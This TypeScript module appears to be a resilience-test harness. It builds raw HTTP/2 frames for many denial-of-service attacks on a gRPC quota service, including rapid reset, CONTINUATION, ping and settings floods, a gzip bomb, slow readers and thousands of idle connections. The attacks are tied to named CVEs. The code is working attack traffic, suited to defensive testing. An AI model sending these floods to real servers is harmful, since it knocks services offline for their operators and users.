import { gzipSync } from "node:zlib";
import { flags, grpcHeaders, headerBlock, http2Frame, preface, settings, uint32 } from "./http2-frames.ts";

/** What a client that means harm sends once it is connected, and what it sends again and again after that. */
export interface Attack {
  /** Connections at once. */
  readonly connections: number;
  /** Whether it takes what the server sends. */
  readonly reads: boolean;
  /** Whether the server ends its connections while the test looks. */
  readonly isEnded: boolean;
  begin(port: number): Buffer;
  /** Undefined: nothing more, it only stays. */
  again(port: number, round: number): Buffer | undefined;
}

/** Whose events are asked for. */
export const attackedTenant = "11111111-1111-4111-8111-111111111111";

const checkQuota = "/quota.v1.QuotaService/CheckQuota";
const listEvents = "/quota.v1.QuotaService/ListEvents";
const framesPerRound = 500;

/** Clients' streams are odd numbers, of which there are 2^30. */
const streamId = (round: number, n: number, perRound = framesPerRound) => (round * perRound + n) * 2 + 1;

const hello = Buffer.concat([preface, settings({})]);

function repeated(frameOf: (n: number) => Buffer, count = framesPerRound): Buffer {
  return Buffer.concat(Array.from({ length: count }, (_, n) => frameOf(n)));
}

function message(bytes: Buffer, compressed = 0): Buffer {
  return Buffer.concat([Buffer.from([compressed]), uint32(bytes.length), bytes]);
}

/** `ListEventsRequest { tenant_id = 1; page_size = 6; }` */
function listRequest(tenantId: string): Buffer {
  return Buffer.concat([Buffer.from([0x0a, tenantId.length]), Buffer.from(tenantId), Buffer.from([0x30, 0xe8, 0x07])]);
}

const bomb = message(gzipSync(Buffer.alloc(48 * 1024 * 1024)), 1);

export const attacks = {
  /** CVE-2023-44487: streams that are reset as soon as they are open. */
  "rapid reset": {
    connections: 4,
    isEnded: true,
    reads: true,
    begin: () => hello,
    again: (port, round) =>
      repeated((n) =>
        Buffer.concat([
          http2Frame("headers", flags.endHeaders, streamId(round, n), grpcHeaders(port, checkQuota)),
          http2Frame("rstStream", 0, streamId(round, n), uint32(8)),
        ]),
      ),
  },
  /** CVE-2024-27983 and its like: a block of header fields that never ends. */
  continuation: {
    connections: 4,
    isEnded: true,
    reads: true,
    begin: (port) => Buffer.concat([hello, http2Frame("headers", 0, 1, grpcHeaders(port, checkQuota))]),
    again: () => repeated((n) => http2Frame("continuation", 0, 1, headerBlock([[`x-${n}`, "y".repeat(100)]]))),
  },
  settings: {
    connections: 4,
    isEnded: true,
    reads: true,
    begin: () => hello,
    again: (_, round) => repeated((n) => settings({ initialWindowSize: 65_535 + ((round + n) % 2) })),
  },
  /** CVE-2019-9515: answers that nobody takes. */
  "settings without reading": {
    connections: 4,
    isEnded: true,
    reads: false,
    begin: () => hello,
    again: () => repeated(() => settings({})),
  },
  ping: {
    connections: 4,
    isEnded: true,
    reads: true,
    begin: () => hello,
    again: () => repeated(() => http2Frame("ping", 0, 0, Buffer.alloc(8))),
  },
  /** CVE-2019-9512 */
  "ping without reading": {
    connections: 4,
    isEnded: true,
    reads: false,
    begin: () => hello,
    again: () => repeated(() => http2Frame("ping", 0, 0, Buffer.alloc(8))),
  },
  priority: {
    connections: 4,
    isEnded: true,
    reads: true,
    begin: () => hello,
    again: (_, round) => repeated((n) => http2Frame("priority", 0, streamId(round, n), Buffer.from([0, 0, 0, 0, 16]))),
  },
  /** CVE-2019-9518 */
  "empty data": {
    connections: 4,
    isEnded: true,
    reads: true,
    begin: (port) => Buffer.concat([hello, http2Frame("headers", flags.endHeaders, 1, grpcHeaders(port, checkQuota))]),
    again: () => repeated(() => http2Frame("data", 0, 1)),
  },
  "window update": {
    connections: 4,
    isEnded: true,
    reads: true,
    begin: () => hello,
    again: () => repeated(() => http2Frame("windowUpdate", 0, 0, uint32(1))),
  },
  /** Few bytes that would become many. */
  "gzip bomb": {
    connections: 4,
    isEnded: true,
    reads: true,
    begin: () => hello,
    again: (port, round) =>
      repeated((n) => {
        const stream = streamId(round, n, 4);
        return Buffer.concat([
          http2Frame("headers", flags.endHeaders, stream, grpcHeaders(port, checkQuota, { "grpc-encoding": "gzip" })),
          ...chunks(bomb).map((chunk, at, all) =>
            http2Frame("data", at === all.length - 1 ? flags.endStream : 0, stream, chunk),
          ),
        ]);
      }, 4),
  },
  /** A block of header fields as large as goes into one frame. */
  "large headers": {
    connections: 4,
    isEnded: true,
    reads: true,
    begin: () => hello,
    again: (port, round) =>
      repeated((n) => {
        const block = Buffer.concat([grpcHeaders(port, checkQuota), headerBlock([["x-large", "y".repeat(15_000)]])]);
        return http2Frame("headers", flags.endHeaders | flags.endStream, streamId(round, n, 20), block);
      }, 20),
  },
  /** Pages of events that nobody takes. */
  "slow reader": {
    connections: 8,
    isEnded: false,
    reads: true,
    begin: () => Buffer.concat([preface, settings({ initialWindowSize: 0 })]),
    again: (port, round) =>
      round > 20
        ? undefined
        : repeated((n) => {
            const stream = streamId(round, n, 50);
            return Buffer.concat([
              http2Frame("headers", flags.endHeaders, stream, grpcHeaders(port, listEvents)),
              http2Frame("data", flags.endStream, stream, message(listRequest(attackedTenant))),
            ]);
          }, 50),
  },
  /** Calls that never say that their request is complete. */
  "open streams": {
    connections: 8,
    isEnded: false,
    reads: true,
    begin: () => hello,
    again: (port, round) =>
      round > 40
        ? undefined
        : repeated(
            (n) => http2Frame("headers", flags.endHeaders, streamId(round, n, 50), grpcHeaders(port, checkQuota)),
            50,
          ),
  },
  /** Connections that say nothing. */
  connections: { connections: 3_000, reads: true, isEnded: true, begin: () => Buffer.alloc(0), again: () => undefined },
} satisfies Record<string, Attack>;

export type AttackName = keyof typeof attacks;

/** At most 16 KiB a frame, which is what a server takes that has not said otherwise. */
function chunks(bytes: Buffer): Buffer[] {
  const found: Buffer[] = [];
  for (let at = 0; at < bytes.length; at += 16_384) found.push(bytes.subarray(at, at + 16_384));
  return found;
}
